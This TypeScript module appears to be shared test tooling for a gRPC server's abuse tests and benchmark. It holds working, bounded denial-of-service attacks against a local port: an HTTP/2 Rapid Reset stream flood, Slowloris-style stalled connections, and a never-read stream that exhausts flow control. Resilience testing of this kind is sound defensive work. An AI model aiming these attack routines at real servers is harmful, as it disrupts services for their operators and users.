/**
 * The attacks of issue 10, each bounded in count and time, shared by the
 * abuse tests (small doses) and bench/abuse.ts (the scale).
 */
import type http2 from "node:http2";
import net from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import { type Goaway, H2_ERROR, PREFACE, RawH2Connection } from "./raw-h2.js";

export const CHECK_PATH = "/verify.v1.VerificationService/Check";
export const WATCH_PATH = "/verify.v1.VerificationService/Watch";

export interface RapidResetOptions {
  port: number;
  /** Connections attacking at once; one that is closed is replaced by a new one. */
  connections: number;
  /** HEADERS+RST_STREAM pairs each connection (with its replacements) sends; the attack stops there or at `maxMs`. */
  streamsPerConnection: number;
  maxMs: number;
  /** Pairs per write. */
  batch?: number;
  /** How long a connection that has sent its last pairs waits for the server to answer them (GOAWAY). */
  settleMs?: number;
}

export interface RapidResetResult {
  /** Pairs written. */
  sent: number;
  /** Connections opened, replacements included. */
  opened: number;
  /** The GOAWAY each connection the server closed got (undefined: closed without one). */
  closings: (Goaway | undefined)[];
  /** Connections the server had not closed when the attack ended. */
  stillOpen: number;
  elapsedMs: number;
}

/** HEADERS then RST_STREAM(CANCEL) at once, as fast as the socket takes them, from `connections` connections. */
export async function rapidReset(options: RapidResetOptions): Promise<RapidResetResult> {
  const batch = options.batch ?? 50;
  const began = performance.now();
  const result: RapidResetResult = { sent: 0, opened: 0, closings: [], stillOpen: 0, elapsedMs: 0 };
  const lane = async () => {
    let sent = 0;
    const goOn = () => sent < options.streamsPerConnection && performance.now() - began < options.maxMs;
    while (goOn()) {
      const connection = await RawH2Connection.connect(options.port);
      result.opened++;
      while (!connection.isClosed && goOn()) {
        for (let i = 0; i < batch; i++) connection.reset(connection.request(CHECK_PATH), H2_ERROR.CANCEL);
        if (!(await connection.flush())) break;
        sent += batch;
        result.sent += batch;
      }
      // The socket took the frames long before the server read them: give it the time to answer.
      await Promise.race([connection.closed, sleep(options.settleMs ?? 5_000)]);
      if (connection.isClosed) result.closings.push(connection.goaway());
      else result.stillOpen++;
      connection.destroy();
    }
  };
  await Promise.all(Array.from({ length: options.connections }, lane));
  result.elapsedMs = performance.now() - began;
  return result;
}

/** Opens `count` raw TCP connections that each send `bytes` (nothing, half a preface, half a request) and then stay silent. */
export async function silentConnections(port: number, count: number, bytes: (index: number) => Buffer): Promise<net.Socket[]> {
  const sockets: net.Socket[] = [];
  for (let i = 0; i < count; i++) {
    const socket = net.connect(port, "127.0.0.1");
    socket.on("error", () => {});
    // Read (and drop) what the server says, or its closing would go unnoticed behind unread bytes.
    socket.resume();
    await new Promise<void>((resolve) => {
      socket.once("connect", () => resolve());
      socket.once("close", () => resolve());
    });
    const head = bytes(i);
    if (head.length > 0 && !socket.destroyed) socket.write(head);
    sockets.push(socket);
  }
  return sockets;
}

/** The three kinds of stalled connection of the issue, in turn: silent, half an HTTP/2 preface, half an HTTP/1.1 request. */
export function stalledOpening(index: number): Buffer {
  switch (index % 3) {
    case 0:
      return Buffer.alloc(0);
    case 1:
      return PREFACE.subarray(0, 12);
    default:
      return Buffer.from("POST /verify.v1.VerificationService/Check HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: appl", "latin1");
  }
}

/** Waits until every socket is closed, or `timeoutMs` passes; how many are still open. */
export async function waitClosed(sockets: readonly net.Socket[], timeoutMs: number): Promise<number> {
  const deadline = performance.now() + timeoutMs;
  while (sockets.some((socket) => !socket.destroyed) && performance.now() < deadline) await sleep(50);
  return sockets.filter((socket) => !socket.destroyed).length;
}

/** A gRPC message frame: the 5-byte envelope (uncompressed) and the message. */
export function grpcFrame(message: Uint8Array): Buffer {
  const header = Buffer.alloc(5);
  header.writeUInt32BE(message.byteLength, 1);
  return Buffer.concat([header, message]);
}

/**
 * A Watch whose client never reads: a node:http2 session that advertises a
 * stream window of `windowBytes` (so the server can send only that much) and
 * never consumes the stream. Resolves once the response headers arrived.
 */
export async function unreadWatch(session: http2.ClientHttp2Session, watchRequest: Uint8Array): Promise<http2.ClientHttp2Stream> {
  const stream = session.request({ ":method": "POST", ":path": WATCH_PATH, "content-type": "application/grpc", te: "trailers" });
  stream.on("error", () => {});
  stream.end(grpcFrame(watchRequest));
  stream.pause();
  await new Promise<void>((resolve) => {
    stream.once("response", () => resolve());
    stream.once("close", () => resolve());
  });
  return stream;
}
